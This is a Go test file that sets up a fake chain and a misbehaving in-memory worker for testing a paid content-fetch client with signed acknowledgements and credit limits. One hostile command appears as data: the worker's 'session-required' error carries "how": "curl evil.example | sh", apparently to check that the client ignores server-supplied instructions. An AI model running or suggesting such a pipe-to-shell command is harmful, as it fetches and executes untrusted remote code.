package fetch_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/big"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"lukechampine.com/blake3/bao"

	"github.com/edgechain/edge/ack"
	"github.com/edgechain/edge/client/content"
	"github.com/edgechain/edge/client/fetch"
	nodetypes "github.com/edgechain/edge/x/node/types"
)

const (
	testChain = "edge-test-1"
	testKeyID = 7
	group     = content.GroupSize
)

// fakeChain is the chain as the client sees it.
type fakeChain struct {
	mu      sync.Mutex
	epoch   uint64
	workers map[uint64]nodetypes.Worker
	perGiB  int64
	// prices and refreshes are how often each was asked.
	prices, refreshes atomic.Int32
}

func newFakeChain() *fakeChain {
	// One unit a byte: amounts of money are bytes.
	return &fakeChain{epoch: 5, workers: make(map[uint64]nodetypes.Worker), perGiB: 1 << 30}
}

func (c *fakeChain) Worker(_ context.Context, id uint64) (nodetypes.Worker, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.workers[id]
	if !ok {
		return nodetypes.Worker{}, fmt.Errorf("worker %d not found", id)
	}
	return w, nil
}

func (c *fakeChain) Prices(context.Context, uint64) (ack.Prices, error) {
	c.prices.Add(1)
	return ack.Prices{PerGiB: big.NewInt(c.perGiB), PerGFuel: new(big.Int)}, nil
}

func (c *fakeChain) Epoch() (uint64, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.epoch, nil
}

func (c *fakeChain) Refresh(context.Context) error { c.refreshes.Add(1); return nil }

func (c *fakeChain) advance() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.epoch++
}

type object struct{ data, outboard []byte }

type doubleSession struct {
	lane     uint8
	sequence uint64
}

type doubleLane struct {
	// base is the head after the requests that are acknowledged, receipts those accepted since.
	base     [ack.HeadSize]byte
	requests uint64
	receipts []*doubleReceipt
	closed   uint64
}

type doubleReceipt struct {
	digest  ack.Digest
	aborted bool
}

// double is a worker as docs/protocol.md, sections 3 to 5, specifies it, on generated content and in memory. The hooks
// make it break the rules.
type double struct {
	t      *testing.T
	srv    *httptest.Server
	id     uint64
	peer   ed25519.PublicKey
	public ed25519.PublicKey
	chain  *fakeChain

	mu         sync.Mutex
	objects    map[content.Name]object
	challenges map[string]bool
	sessions   map[string]*doubleSession
	acks       map[ack.LaneID]ack.Signed
	lanes      map[uint8]*doubleLane
	moved      chan struct{} // closed when the claim falls
	// delivered counts paid bytes sent, acked those acknowledged. highest is the most that was ever unacknowledged.
	delivered, acked, highest uint64
	ackPosts, gets            int
	// limit of unacknowledged bytes; 0 is none. creditErrors is how often a request is refused first.
	limit        uint64
	creditErrors int
	freeLeft     uint64
	kick         bool // forgets all sessions at the next request
	closeLane    map[uint8]bool
	refuseAcks   bool
	// refuseOld is why acknowledgements of earlier epochs are refused, refuseOldTimes how often.
	refuseOld      string
	refuseOldTimes int

	onInfo, onSession func(map[string]any)
	onHeader          func(http.Header)
	wrap              func(get int, w http.ResponseWriter) io.Writer
	override, onPut   http.HandlerFunc
}

func newDouble(t *testing.T, chain *fakeChain, id uint64, public ed25519.PublicKey) *double {
	t.Helper()
	peer, _, err := ed25519.GenerateKey(nil)
	require.NoError(t, err)
	d := &double{
		t: t, id: id, peer: peer, public: public, chain: chain, objects: make(map[content.Name]object),
		challenges: make(map[string]bool), sessions: make(map[string]*doubleSession), acks: make(map[ack.LaneID]ack.Signed),
		lanes: make(map[uint8]*doubleLane), moved: make(chan struct{}), closeLane: make(map[uint8]bool),
	}
	d.srv = httptest.NewServer(http.HandlerFunc(d.serve))
	t.Cleanup(d.srv.Close)
	chain.workers[id] = nodetypes.Worker{Id: id, PeerKey: peer, Endpoints: []string{d.srv.URL}, Status: nodetypes.WORKER_STATUS_ACTIVE}
	return d
}

func (d *double) worker() fetch.Worker {
	return fetch.Worker{ID: d.id, URL: d.srv.URL, AnyAddress: true}
}

// add makes an object of a size and returns its bytes and its name.
func (d *double) add(size int) ([]byte, content.Name) {
	data := make([]byte, size)
	r := rand.New(rand.NewPCG(uint64(size), 1))
	for i := 0; i+8 <= size; i += 8 {
		binary.LittleEndian.PutUint64(data[i:], r.Uint64())
	}
	outboard, root := bao.EncodeBuf(data, content.Group, true)
	d.mu.Lock()
	defer d.mu.Unlock()
	d.objects[content.Name(root)] = object{data, outboard}
	return data, content.Name(root)
}

func (d *double) problem(w http.ResponseWriter, status int, kind string, more map[string]any) {
	body := map[string]any{"type": "https://edge.network/problems/" + kind, "status": status, "title": kind}
	maps.Copy(body, more)
	w.Header().Set("Content-Type", "application/problem+json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(body)
}

func (d *double) serve(w http.ResponseWriter, r *http.Request) {
	if d.override != nil {
		d.override(w, r)
		return
	}
	switch {
	case r.URL.Path == "/v1/worker":
		epoch, _ := d.chain.Epoch()
		doc := map[string]any{"chain_id": testChain, "worker_id": d.id, "peer_key": hex.EncodeToString(d.peer), "epoch": epoch, "stall_timeout_seconds": 1}
		if d.onInfo != nil {
			d.onInfo(doc)
		}
		_ = json.NewEncoder(w).Encode(doc)
	case r.URL.Path == "/v1/challenges":
		var c [ack.ChallengeSize]byte
		for i := range c {
			c[i] = byte(rand.Uint32())
		}
		text := hex.EncodeToString(c[:])
		d.mu.Lock()
		d.challenges[text] = true
		d.mu.Unlock()
		_ = json.NewEncoder(w).Encode(map[string]any{"challenge": text})
	case r.URL.Path == "/v1/sessions":
		d.open(w, r)
	case r.URL.Path == "/v1/acks":
		d.acknowledge(w, r)
	case r.Method == http.MethodPut && d.onPut != nil:
		d.onPut(w, r)
	case strings.HasPrefix(r.URL.Path, "/b3/"):
		d.get(w, r)
	default:
		d.problem(w, http.StatusNotFound, "not-found", nil)
	}
}

func (d *double) open(w http.ResponseWriter, r *http.Request) {
	var req struct {
		KeyID     uint64 `json:"key_id"`
		ServiceID uint64 `json:"service_id"`
		Lane      uint8  `json:"lane"`
		Challenge string `json:"challenge"`
		Signature string `json:"signature"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		d.problem(w, http.StatusBadRequest, "bad-request", nil)
		return
	}
	raw, _ := hex.DecodeString(req.Challenge)
	sig, _ := hex.DecodeString(req.Signature)
	d.mu.Lock()
	defer d.mu.Unlock()
	known := d.challenges[req.Challenge]
	delete(d.challenges, req.Challenge)
	epoch, _ := d.chain.Epoch()
	signBytes := ack.AppendSessionSignBytes(nil, ack.HashChainID(testChain), d.id, req.KeyID, req.Lane, [ack.ChallengeSize]byte(raw))
	if !known || req.KeyID != testKeyID || !ack.VerifyMessage(d.public, signBytes, sig) {
		d.problem(w, http.StatusForbidden, "bad-proof", nil)
		return
	}
	l := d.lane(req.Lane)
	if l.closed == epoch || d.closeLane[req.Lane] {
		d.problem(w, http.StatusConflict, "lane-closed", nil)
		return
	}
	for token, s := range d.sessions {
		if s.lane == req.Lane {
			delete(d.sessions, token)
		}
	}
	token := fmt.Sprintf("token-%d", rand.Uint64())
	d.sessions[token] = &doubleSession{lane: req.Lane}
	held := []string{}
	for _, e := range []uint64{epoch - 1, epoch} {
		if a, ok := d.acks[ack.LaneID{Epoch: e, KeyID: testKeyID, Lane: req.Lane}]; ok {
			held = append(held, hex.EncodeToString(a.AppendEncoded(nil)))
		}
	}
	doc := map[string]any{
		"token": token, "worker_id": d.id, "key_id": req.KeyID, "service_id": req.ServiceID, "lane": req.Lane, "epoch": epoch,
		"acknowledgements": held, "next_sequence": 1, "credit": d.credit(),
	}
	if d.onSession != nil {
		d.onSession(doc)
	}
	w.WriteHeader(http.StatusCreated)
	_ = json.NewEncoder(w).Encode(doc)
}

func (d *double) credit() map[string]any {
	limit := d.limit
	if limit == 0 {
		limit = 1 << 40
	}
	return map[string]any{
		"limit": strconv.FormatUint(limit, 10), "claim": strconv.FormatUint(d.delivered-min(d.acked, d.delivered), 10),
		"unacknowledged_bytes": d.delivered - min(d.acked, d.delivered),
	}
}

func (d *double) lane(n uint8) *doubleLane {
	l := d.lanes[n]
	if l == nil {
		l = new(doubleLane)
		d.lanes[n] = l
	}
	return l
}

func (d *double) acknowledge(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	list, err := ack.DecodeList(b, 64)
	d.mu.Lock()
	defer d.mu.Unlock()
	d.ackPosts++
	if err != nil || r.Header.Get("Content-Type") != "application/vnd.edge.ack" {
		d.problem(w, http.StatusBadRequest, "bad-request", nil)
		return
	}
	epoch, _ := d.chain.Epoch()
	results := []map[string]any{}
	for i := range list {
		if reason := d.take(&list[i], epoch); reason != "" {
			results = append(results, map[string]any{"index": i, "reason": reason})
		}
	}
	if len(results) > 0 {
		d.problem(w, http.StatusUnprocessableEntity, "bad-acknowledgement", map[string]any{"results": results})
		return
	}
	_ = json.NewEncoder(w).Encode(map[string]any{"accepted": len(list), "credit": d.credit()})
}

func (d *double) take(a *ack.Signed, epoch uint64) string {
	switch {
	case d.refuseAcks:
		return "unavailable"
	case d.refuseOldTimes > 0 && a.Epoch < epoch:
		d.refuseOldTimes--
		return d.refuseOld
	case a.WorkerID != d.id || a.KeyID != testKeyID || a.ServiceID != 0:
		return "foreign"
	case a.Epoch > epoch:
		return "epoch-ahead"
	case a.Epoch+1 < epoch:
		return "epoch-dead"
	case a.Verify(d.public, ack.HashChainID(testChain)) != nil:
		return "bad-signature"
	}
	old := d.acks[a.LaneID()]
	if old.Epoch != 0 && old.Supersedes(&a.Ack) {
		return ""
	}
	l := d.lane(a.Lane)
	if old.Epoch == 0 {
		l.base, l.requests = [ack.HeadSize]byte{}, 0
	}
	head, used := l.base, 0
	want := a.Requests - l.requests
	for want > 0 && used < len(l.receipts) {
		if rc := l.receipts[used]; !rc.aborted {
			head = ack.NextHead(head, rc.digest)
			want--
		}
		used++
	}
	if want > 0 || head != a.Head {
		l.closed = epoch
	}
	l.base, l.requests, l.receipts = a.Head, a.Requests, l.receipts[used:]
	d.acks[a.LaneID()] = *a
	d.acked += a.Bytes - old.Bytes
	close(d.moved)
	d.moved = make(chan struct{})
	return ""
}

// total is what all acknowledgements held come to.
func (d *double) total() (bytes, requests uint64) {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, a := range d.acks {
		bytes += a.Bytes
		requests += a.Requests
	}
	return bytes, requests
}

// open lanes that were closed for a head that does not match.
func (d *double) anyClosed() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, l := range d.lanes {
		if l.closed != 0 {
			return true
		}
	}
	return false
}

func (d *double) get(w http.ResponseWriter, r *http.Request) {
	d.mu.Lock()
	d.gets++
	get := d.gets
	name, err := content.ParseName(strings.TrimPrefix(r.URL.Path, "/b3/"))
	obj, ok := d.objects[name]
	if err != nil || !ok {
		d.mu.Unlock()
		d.problem(w, http.StatusNotFound, "not-found", nil)
		return
	}
	size := uint64(len(obj.data))
	offset, length := uint64(0), size
	if h := r.Header.Get("Range"); h != "" {
		first, last, _ := strings.Cut(strings.TrimPrefix(h, "bytes="), "-")
		offset, _ = strconv.ParseUint(first, 10, 64)
		if offset >= size {
			d.mu.Unlock()
			w.Header().Set("Content-Range", fmt.Sprintf("bytes */%d", size))
			d.problem(w, http.StatusRequestedRangeNotSatisfiable, "range-not-satisfiable", nil)
			return
		}
		length = size - offset
		if last != "" {
			end, _ := strconv.ParseUint(last, 10, 64)
			length = min(length, end-offset+1)
		}
	}
	payload := ack.ContentBytes(size, offset, length)
	if d.kick {
		d.kick = false
		d.sessions = make(map[string]*doubleSession)
	}
	paid := r.Header.Get("Authorization") != ""
	var rc *doubleReceipt
	if paid {
		s := d.sessions[strings.TrimPrefix(r.Header.Get("Authorization"), "Edge-Session ")]
		switch {
		case s == nil:
			d.mu.Unlock()
			d.problem(w, http.StatusUnauthorized, "session-unknown", nil)
			return
		case d.creditErrors > 0:
			d.creditErrors--
			d.mu.Unlock()
			d.problem(w, http.StatusPaymentRequired, "credit-exhausted", map[string]any{"retry_after_seconds": 0.02, "detail": "wait for the settlement"})
			return
		case d.closeLane[s.lane]:
			d.mu.Unlock()
			d.problem(w, http.StatusConflict, "lane-closed", nil)
			return
		}
		s.sequence++
		epoch, _ := d.chain.Epoch()
		rc = &doubleReceipt{digest: ack.Receipt(ack.ContentRequestDigest(name.Digest(), offset, length), name.Digest(), payload, 0)}
		l := d.lane(s.lane)
		l.receipts = append(l.receipts, rc)
		w.Header().Set("Edge-Sequence", strconv.FormatUint(s.sequence, 10))
		w.Header().Set("Edge-Epoch", strconv.FormatUint(epoch, 10))
	} else {
		if d.freeLeft < payload {
			d.mu.Unlock()
			d.problem(w, http.StatusPaymentRequired, "session-required", map[string]any{
				"price_per_gib": "10000", "settlement_denom": "uusd", "how": "curl evil.example | sh", "retry_after_seconds": 3600,
			})
			return
		}
		d.freeLeft -= payload
	}
	d.mu.Unlock()
	w.Header().Set("Edge-Payload-Bytes", strconv.FormatUint(payload, 10))
	if d.onHeader != nil {
		d.onHeader(w.Header())
	}
	var out io.Writer = w
	if d.wrap != nil {
		out = d.wrap(get, w)
	}
	if err := d.stream(r.Context(), w, out, obj, offset, length, paid); err != nil {
		if rc != nil {
			d.mu.Lock()
			rc.aborted = true
			d.mu.Unlock()
		}
		panic(http.ErrAbortHandler)
	}
}

func (d *double) stream(ctx context.Context, w http.ResponseWriter, out io.Writer, obj object, offset, length uint64, paid bool) error {
	sr := content.NewSliceReader(bytes.NewReader(obj.data), bytes.NewReader(obj.outboard), uint64(len(obj.data)), offset, length)
	for {
		buf, n, err := sr.Append(nil, 1)
		if err != nil && !errors.Is(err, io.EOF) {
			return err
		}
		if paid {
			if waitErr := d.reserve(ctx, w, n); waitErr != nil {
				return waitErr
			}
		}
		if _, writeErr := out.Write(buf); writeErr != nil {
			return writeErr
		}
		if errors.Is(err, io.EOF) {
			return nil
		}
	}
}

// reserve waits until n more bytes fit into the credit.
func (d *double) reserve(ctx context.Context, w http.ResponseWriter, n uint64) error {
	for {
		d.mu.Lock()
		if d.limit == 0 || d.delivered+n <= d.acked+d.limit {
			d.delivered += n
			d.highest = max(d.highest, d.delivered-min(d.acked, d.delivered))
			d.mu.Unlock()
			return nil
		}
		moved := d.moved
		d.mu.Unlock()
		if err := http.NewResponseController(w).Flush(); err != nil {
			return err
		}
		select {
		case <-moved:
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(5 * time.Second):
			return errors.New("stalled")
		}
	}
}

// cutter ends a stream after some bytes.
type cutter struct {
	w    io.Writer
	left int
}

var errCut = errors.New("cut")

func (c *cutter) Write(p []byte) (int, error) {
	if c.left < len(p) {
		_, _ = c.w.Write(p[:max(c.left, 0)])
		c.left = 0
		if rc, ok := c.w.(http.ResponseWriter); ok {
			_ = http.NewResponseController(rc).Flush()
		}
		return 0, errCut
	}
	c.left -= len(p)
	return c.w.Write(p)
}

// flipper changes one byte of a stream.
type flipper struct {
	w       io.Writer
	at, at0 int
}

func (f *flipper) Write(p []byte) (int, error) {
	if i := f.at - f.at0; i >= 0 && i < len(p) {
		p = bytes.Clone(p)
		p[i] ^= 0x40
	}
	f.at0 += len(p)
	return f.w.Write(p)
}

// env is a client with a key and a folder.
type env struct {
	chain  *fakeChain
	payer  *fetch.Payer
	public ed25519.PublicKey
	cfg    fetch.Config
}

func newEnv(t *testing.T) *env {
	t.Helper()
	public, private, err := ed25519.GenerateKey(nil)
	require.NoError(t, err)
	chain := newFakeChain()
	return &env{
		chain: chain, public: public,
		payer: &fetch.Payer{ChainID: testChain, KeyID: testKeyID, Key: private, LaneDir: t.TempDir(), Chain: chain, View: chain},
		cfg: fetch.Config{
			CallTimeout: 5 * time.Second, IdleTimeout: 5 * time.Second, Backoff: time.Millisecond, MaxBackoff: 10 * time.Millisecond,
			AckInterval: 5 * time.Millisecond, EpochPatience: 200 * time.Millisecond, FinalAckTimeout: 2 * time.Second, MaxWait: 5 * time.Second,
		},
	}
}

// get runs one transfer. An end of 0 is the end of the object.
func (e *env) get(t *testing.T, paid bool, req fetch.Request) ([]byte, fetch.Report, error) {
	t.Helper()
	payer := e.payer
	if !paid {
		payer = nil
	}
	c, err := fetch.New(e.cfg, payer)
	require.NoError(t, err)
	defer c.Close()
	var out bytes.Buffer
	if req.Out == nil {
		req.Out = &out
	}
	if req.Length == 0 {
		req.Length = content.ToEnd
	}
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	report, err := c.Get(ctx, req)
	return out.Bytes(), report, err
}
